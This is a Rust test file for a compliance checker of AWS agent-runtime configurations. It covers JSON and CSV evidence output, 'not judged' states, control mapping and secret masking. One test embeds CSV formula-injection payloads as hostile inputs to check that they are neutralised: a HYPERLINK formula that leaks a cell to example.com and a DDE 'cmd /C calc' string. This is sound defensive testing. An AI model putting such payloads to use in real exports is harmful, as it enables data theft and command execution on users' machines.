//! What `check --format json` and `csv` say was judged: of every rule on every resource, and never a yes that was not earned.

use crate::support::printed;
use crate::support::project::{MDAA_YAML as MDAA, Project};
use mdaac::policy::RULES;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;

const AGENT: &str = "\
agentRuntimeName: quote_agent
agentRuntimeArtifact:
  containerConfiguration:
    containerUri: '{{account}}.dkr.ecr.{{region}}.amazonaws.com/quotes@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'
networkConfiguration: {securityGroups: [sg-0a1b2c3d], subnets: [subnet-0a1b2c3d]}
";
/// Pinned, and that is accepted; a policy and a value that no rule can read.
const MORE: &str = "\
environmentVariables: {PRICES: 'ssm:/prices/url'}
runtimeEndpoint: {name: first, agentRuntimeVersion: '3'}
policies:
  - policyArn: arn:aws:iam::111122223333:policy/team/quotes
  - policyDocument:
      Statement:
        - {Effect: Allow, Action: 's3:GetObject', Resource: 'arn:aws:s3:::quotes/*'}
waivers:
  - {rule: endpoint-pinned, where: '/*/RuntimeEndpoint', covers: [AgentRuntimeVersion 3], reason: a partner has tested the third version only, owner: sales, expires: '2027-06-30'}
";

fn project(mdaa: &str, agent: &str) -> Project {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("mdaa.yaml"), mdaa).unwrap();
    fs::write(folder.path().join("agent.yaml"), agent).unwrap();
    Project::copy_of(folder.path())
}

fn agent(more: &str) -> Project {
    project(MDAA, &format!("{AGENT}{more}"))
}

fn check(project: &Project, format: &str) -> String {
    let output = project.mdaac(&["check", "--format", format, "--today", "2026-11-22"]);
    assert!(output.status.code().is_some_and(|code| code < 4), "{}", printed(&output));
    String::from_utf8(output.stdout).unwrap()
}

fn report(project: &Project) -> Value {
    serde_json::from_str(&check(project, "json")).unwrap()
}

/// The evidence about the only module, or the first.
fn module(project: &Project) -> Value {
    report(project)["evidence"]["modules"][0].take()
}

/// What came of a rule, and on which resources of a type.
fn places<'a>(module: &'a Value, code: &str, state: &str) -> Vec<&'a str> {
    match &module["rules"][code][state] {
        Value::Array(places) => places.iter().filter_map(Value::as_str).collect(),
        Value::Object(places) => places.keys().map(String::as_str).collect(),
        _ => Vec::new(),
    }
}

fn types<'a>(module: &'a Value, places: &[&str]) -> Vec<&'a str> {
    places.iter().map(|place| module["resources"][place]["type"].as_str().unwrap_or("the stack")).collect()
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

#[test]
fn what_was_judged_of_a_module_is_told() {
    let mut report = report(&agent(MORE));
    let evidence = &mut report["evidence"];
    assert_eq!(evidence["tool"]["rules"], mdaac_version()["rules"]);
    assert_eq!(evidence["judgedOn"], "2026-11-22");
    let codes: BTreeSet<&str> = RULES.iter().flat_map(|rule| rule.ids()).map(|id| id.code.name()).collect();
    let told: BTreeSet<&str> = evidence["rules"].as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(told, codes, "every rule is named, also one that is about nothing here");
    // It changes with every line of templates/, and the next test holds it against the file.
    evidence["modules"][0]["template"]["sha256"] = json!("…");
    let told =
        json!({ "modules": evidence["modules"], "controls": evidence["controls"], "states": evidence["states"] });
    insta::assert_snapshot!(serde_json::to_string_pretty(&told).unwrap());
}

fn mdaac_version() -> Value {
    let output = agent("").mdaac(&["version", "--format", "json"]);
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn digests_are_of_the_bytes_that_were_read_and_are_written() {
    let project = agent(MORE);
    // A byte order mark is a part of the file, not of its text.
    let marked = [b"\xEF\xBB\xBF", format!("{AGENT}{MORE}").as_bytes()].concat();
    fs::write(project.path().join("agent.yaml"), &marked).unwrap();
    let told = module(&project);
    assert_eq!(told["files"]["agent.yaml"], sha256(&marked));
    assert_eq!(told["files"]["mdaa.yaml"], sha256(MDAA.as_bytes()));
    let written = project.synth();
    let file = told["template"]["file"].as_str().unwrap();
    assert_eq!(told["template"]["sha256"], sha256(written[file].as_bytes()), "{file}");
}

/// Each place once under each rule, whatever is wrong.
#[test]
fn every_rule_has_one_answer_for_every_resource_that_it_looks_at() {
    let admin = "policies: [{policyDocument: {Statement: [{Effect: Allow, Action: '*', Resource: '*'}]}}]\n";
    for more in ["", MORE, admin, "roleArn: arn:aws:iam::111122223333:role/quotes\n"] {
        let report = report(&agent(more));
        let (evidence, module) = (&report["evidence"], &report["evidence"]["modules"][0]);
        for (code, states) in module["rules"].as_object().unwrap() {
            let mut seen = BTreeSet::new();
            let looks_at = &evidence["rules"][code]["looksAt"].as_array().unwrap();
            for state in states.as_object().unwrap().keys() {
                for place in places(module, code, state) {
                    assert!(seen.insert(place.to_owned()), "{code}: {place} stands under two states");
                    let kind = &module["resources"][place]["type"];
                    let stack = json!("AWS::CloudFormation::Stack");
                    let kind = if place == module["stackName"] { &stack } else { kind };
                    assert!(looks_at.contains(kind), "{code} does not say that it looks at {kind}");
                }
            }
        }
        for found in report["diagnostics"].as_array().unwrap() {
            let (code, pointer) = (found["code"].as_str().unwrap(), found["templatePointer"].as_str());
            let Some(pointer) = pointer else { continue };
            let place = pointer.split('/').nth(2).unwrap_or_default();
            let state = match (found["waived"].as_bool(), found["severity"].as_str()) {
                (Some(true), _) => "waived",
                (_, Some("info")) => "noted",
                _ => "violated",
            };
            let stack = module["stackName"].as_str().unwrap();
            let told = places(module, code, state);
            let graver = |graver| places(module, code, graver).contains(&place);
            assert!(
                told.contains(&place)
                    || told.contains(&stack)
                    || state != "violated" && (graver("violated") || graver("notJudged")),
                "{code} is {state} at {place}: {:#}",
                module["rules"][code]
            );
        }
    }
}

#[test]
fn what_a_rule_could_not_read_is_not_compliant() {
    let told = module(&agent(MORE));
    // A policy by its ARN: what the role may do stands elsewhere, which no rule about statements has seen.
    for code in ["iam-privilege-escalation", "iam-reads-all-data", "PCI.DSS.321-IAMPolicyNoStatementsWithAdminAccess"] {
        let unseen = places(&told, code, "notJudged");
        assert_eq!(types(&told, &unseen), ["AWS::IAM::Role"], "{code}: {:#}", told["rules"][code]);
        let why = told["rules"][code]["notJudged"][unseen[0]].as_str().unwrap();
        assert!(why.contains("arn:aws:iam::111122223333:policy/team/quotes"), "{why}");
    }
    // Whose name it is says enough for others.
    assert_eq!(types(&told, &places(&told, "iam-administrator-policy", "compliant")), ["AWS::IAM::Role"]);
    let runtime = places(&told, "secret-in-environment", "notJudged");
    assert_eq!(types(&told, &runtime), ["AWS::BedrockAgentCore::Runtime"]);
    let why = told["rules"]["secret-in-environment"]["notJudged"][runtime[0]].as_str().unwrap();
    assert!(why.contains("{{resolve:ssm:/prices/url}}"), "{why}");

    // A role of somebody else's.
    let told = module(&agent("roleArn: arn:aws:iam::111122223333:role/quotes\n"));
    for code in ["iam-privilege-escalation", "iam-administrator-policy", "AwsSolutions-IAM4"] {
        let unseen = places(&told, code, "notJudged");
        assert_eq!(types(&told, &unseen), ["AWS::BedrockAgentCore::Runtime"], "{code}: {:#}", told["rules"][code]);
    }

    // Where all is written nothing is left open.
    let told = module(&agent(""));
    let open: Vec<&String> = told["rules"]
        .as_object()
        .unwrap()
        .iter()
        .filter(|(_, of)| of.get("notJudged").is_some())
        .map(|(code, _)| code)
        .collect();
    assert!(open.is_empty(), "{open:?}");
}

/// A region, an account or the modules beside it.
#[test]
fn what_the_deploy_decides_about_the_place_is_not_judged() {
    let open = MDAA.replace("eu-central-1", "default").replace("'111122223333'", "default");
    let told = module(&project(&open, AGENT));
    assert_eq!((&told["account"], &told["region"]), (&Value::Null, &Value::Null));
    assert_eq!(places(&told, "resource-type-missing-in-region", "notJudged"), ["orbit-test-sales-quotes"]);
    assert_eq!(places(&told, "export-collision", "compliant"), ["orbit-test-sales-quotes"]);
    let (_, environment) = open.split_once("      test:\n").unwrap();
    let told = module(&project(&format!("{open}      prod:\n{environment}"), AGENT));
    assert_eq!(places(&told, "export-collision", "notJudged"), ["orbit-test-sales-quotes"]);
}

#[test]
fn a_module_with_errors_is_not_judged_and_no_control_is_met() {
    let mdaa = format!(
        "{MDAA}          broken:\n            module_path: '@aws-mdaa/bedrock-agentcore-runtime'\n            module_config_data: {{agentRuntimeName: b}}\n"
    );
    let project = project(&mdaa, AGENT);
    let report = report(&project);
    let [quotes, broken] = &report["evidence"]["modules"].as_array().unwrap()[..] else { panic!("{report:#}") };
    assert!(broken["notJudged"].as_str().unwrap().contains("errors"), "{broken:#}");
    assert_eq!((&broken["template"], broken["rules"].as_object().unwrap().len()), (&Value::Null, 0));
    assert!(!places(quotes, "runtime-public-network", "compliant").is_empty(), "{quotes:#}");
    assert_eq!(places(quotes, "name-collision", "compliant"), [""; 0], "nobody knows what the other would be named");
    for (framework, states) in report["evidence"]["controls"].as_object().unwrap() {
        assert_eq!(states["met"], json!([]), "{framework}");
    }
    let table = rows(&check(&project, "csv"));
    let of_broken: Vec<&Row> = table.iter().filter(|row| row.resource == "orbit-test-sales-broken").collect();
    assert!(of_broken.len() > RULES.len() && of_broken.iter().all(|row| row.compliance == "UNKNOWN"), "{of_broken:?}");
}

#[test]
fn what_goes_without_saying_beside_an_administrator_is_not_in_order() {
    let told =
        module(&agent("policies: [{policyDocument: {Statement: [{Effect: Allow, Action: '*', Resource: '*'}]}}]\n"));
    let policy = places(&told, "PCI.DSS.321-IAMPolicyNoStatementsWithAdminAccess", "violated");
    for code in ["iam-pass-role-wildcard", "iam-reads-all-data", "kms-decrypt-any-key"] {
        assert_eq!(places(&told, code, "violated"), policy, "{code}: {:#}", told["rules"][code]);
    }
}

#[test]
fn controls_are_met_violated_or_without_a_rule() {
    let of = |more: &str| report(&agent(more))["evidence"]["controls"].take();
    let has = |controls: &Value, framework: &str, state: &str, id: &str| {
        controls[framework][state].as_array().unwrap().contains(&json!(id))
    };
    let (plain, more) = (of(""), of(MORE));
    assert!(has(&plain, "HIPAA Security", "met", "164.312(a)(2)(iv)"), "{plain:#}");
    assert!(
        has(&plain, "NIST 800-53 r5", "notApplicable", "SI-2") && has(&more, "NIST 800-53 r5", "waived", "SI-2"),
        "{more:#}"
    );
    assert!(has(&more, "PCI DSS 3.2.1", "violated", "7.2.2"), "a wildcard: {more:#}");
    assert!(has(&more, "PCI DSS 3.2.1", "notJudged", "2.2"), "the policy that nobody has read: {more:#}");
    // Backups: no rule of ours, and said so.
    assert!(has(&plain, "NIST 800-53 r5", "withoutRule", "CP-6(1)"), "{plain:#}");
    assert_eq!(plain["prowler"]["withoutRule"], Value::Null, "nobody here has its whole list");
    for (framework, states) in plain.as_object().unwrap() {
        let lists = states.as_object().unwrap().values().filter_map(Value::as_array).flatten();
        let ids: Vec<&str> = lists.filter_map(Value::as_str).collect();
        assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), ids.len(), "{framework}: each control once");
    }
}

#[derive(Debug, PartialEq)]
struct Row {
    rule: String,
    resource: String,
    compliance: String,
    reason: String,
}

fn rows(table: &str) -> Vec<Row> {
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let rows = reader.records().map(|row| {
        let row = row.unwrap();
        assert_eq!(row.len(), 6, "{row:?}");
        let field = |index: usize| row[index].to_owned();
        Row { rule: field(0), resource: field(1), compliance: field(2), reason: field(3) }
    });
    rows.collect()
}

#[test]
fn the_table_has_the_columns_of_cdk_nag_and_the_answers_of_the_json() {
    let project = agent(MORE);
    let table = check(&project, "csv");
    assert!(table.starts_with("Rule ID,Resource ID,Compliance,Exception Reason,Rule Level,Rule Info\n\""), "{table}");
    assert!(table.lines().skip(1).all(|line| line.starts_with('"') && line.ends_with('"')));
    insta::assert_snapshot!(table);
    let told = module(&project);
    let mut compliances: BTreeMap<(String, String), BTreeSet<String>> = BTreeMap::new();
    for row in rows(&table) {
        compliances.entry((row.rule, row.resource)).or_default().insert(row.compliance);
    }
    for (code, states) in told["rules"].as_object().unwrap() {
        for (state, compliance) in [
            ("compliant", "Compliant"),
            ("violated", "Non-Compliant"),
            ("waived", "Suppressed"),
            ("notJudged", "UNKNOWN"),
        ] {
            for place in states.get(state).map(|_| places(&told, code, state)).unwrap_or_default() {
                let path = told["resources"][place]["path"].as_str().map_or(place, |path| path.trim_start_matches('/'));
                let row = &compliances[&(code.clone(), path.to_owned())];
                assert!(row.contains(compliance), "{code} at {path}: {row:?}");
            }
        }
    }
}

#[test]
fn a_reason_is_no_formula_and_no_second_row() {
    for reason in [
        "=HYPERLINK(\"https://example.com/?\"&A1)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3 is one",
        "two\nlines, \"quoted\"",
    ] {
        let written = serde_json::to_string(reason).unwrap();
        let more = MORE.replace("a partner has tested the third version only", &written);
        let table = rows(&check(&agent(&more), "csv"));
        let waived: Vec<&Row> =
            table.iter().filter(|row| row.compliance == "Suppressed" && row.rule == "endpoint-pinned").collect();
        let [row] = &waived[..] else { panic!("{waived:?}") };
        assert!(!row.reason.starts_with(['=', '@', '-', '+']) && row.reason.lines().count() == 1, "{row:?}");
        assert!(row.reason.contains(&reason[1..6].replace('\n', "")) || reason.starts_with("two"), "{row:?}");
    }
}

#[test]
fn no_secret_gets_into_evidence() {
    let secret = "hunter2-0451-correct-horse";
    let more = MORE
        .replace("policy/team/quotes", "policy/{{env_var:WHICH}}")
        .replace("a partner has tested the third version only", "'{{env_var:WHICH}}'");
    let project = agent(&more).with_variables([("WHICH".to_owned(), secret.to_owned())].into());
    for format in ["json", "csv"] {
        let told = check(&project, format);
        assert!(!told.contains(secret), "{format}: {told}");
        assert!(told.contains("•••"), "{format}");
    }
}

#[test]
fn evidence_is_the_same_bytes_each_time_and_small() {
    let modules: String = (0..40)
        .map(|number| {
            format!(
                "          quotes-{number}:\n            module_path: '@aws-mdaa/bedrock-agentcore-runtime'\n            module_configs: [./agent.yaml]\n"
            )
        })
        .collect();
    let project = project(
        &format!("{MDAA}{modules}").replace("          quotes:", "          first:"),
        &format!("{AGENT}{}", MORE.replace("runtimeEndpoint", "enableTransactionSearch: false\nruntimeEndpoint")),
    );
    let first = check(&project, "json");
    assert_eq!(first, check(&project, "json"));
    let report: Value = serde_json::from_str(&first).unwrap();
    for module in report["evidence"]["modules"].as_array().unwrap() {
        let bytes = serde_json::to_vec_pretty(module).unwrap().len();
        assert!(bytes < 40 * 1024, "{bytes} bytes of one module");
    }
}

#[test]
fn a_control_without_a_rule_is_explained_as_one() {
    let project = agent("");
    let explained = project.mdaac(&["explain", "CP-6(1)"]);
    let page = String::from_utf8(explained.stdout).unwrap();
    assert_eq!(page, "NIST 800-53 r5 CP-6(1)\n\nNo rule of mdaac's helps to meet it.\n");
    assert_eq!(project.mdaac(&["explain", "CP-66(1)"]).status.code(), Some(64));
}
